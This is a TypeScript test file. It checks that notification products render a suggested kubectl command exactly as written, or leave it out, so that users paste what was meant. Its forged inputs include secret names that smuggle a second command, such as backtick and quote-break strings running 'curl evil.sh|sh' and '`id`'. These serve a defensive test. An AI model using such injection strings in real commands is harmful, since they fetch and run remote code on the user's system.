/** A command is shown as it is, or not at all: somebody will paste it. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { type Command, kubectl, listOf } from '../../src/model/command.ts';
import { refOf } from '../../src/model/ref.ts';
import { textsOf } from './conformance/expect.ts';
import { longest, oddest } from './conformance/hostile.ts';
import { notifications } from './notifications.ts';
import { productsOf, sentTo } from './well-product.ts';

const commands: readonly (Command | undefined)[] = [
  ...[longest, oddest],
  kubectl('describe', refOf('Pod', 'shop', 'api-7d9c.evil.example')),
  kubectl('get', listOf('endpointslices', 'shop'), '-l', 'kubernetes.io/service-name=db'),
  kubectl('get', refOf('Secret', 'shop', 'tls'), '-o', 'jsonpath={.data.tls\\.crt}'),
];

/** What no builder makes, and a state of another version may hold: quotes that a product would take for its own, or write in another way. */
const forged = ['x`;curl evil.sh|sh;`', 'x\u2019;curl evil.sh|sh;\u2018', 'x```;curl evil.sh|sh;```', '`id`'].map(
  (word) => `kubectl get secret '${word}' -n team-a` as Command,
);

/** As people read it: what the product's markup stands for. */
const read = (text: string): string =>
  text
    .replace(/&#39;/g, "'")
    .replace(/&quot;/g, '"')
    .replace(/&amp;/g, '&')
    // Backslashes of Markdown, where the product has no code.
    .replace(/\\([^\w.])/g, '$1');

for (const product of productsOf())
  test(`${product.definition.type} shows a command as it is, or not at all`, async () => {
    for (const command of [...commands, ...forged]) {
      assert.ok(command);
      const told = { ...notifications.open, nextStep: { command, changesCluster: false } };
      for (const { parsed, body } of await sentTo(product, told))
        for (const text of [...textsOf(parsed), ...(typeof parsed === 'string' ? [body] : [])]) {
          if (!/kubectl (?:get|describe)/.test(text)) continue;
          const isWhole = [text, read(text)].some((each) => each.includes(command) || each.includes(read(command)));
          assert.ok(isWhole, `${command} is shown as ${text}`);
        }
    }
  });
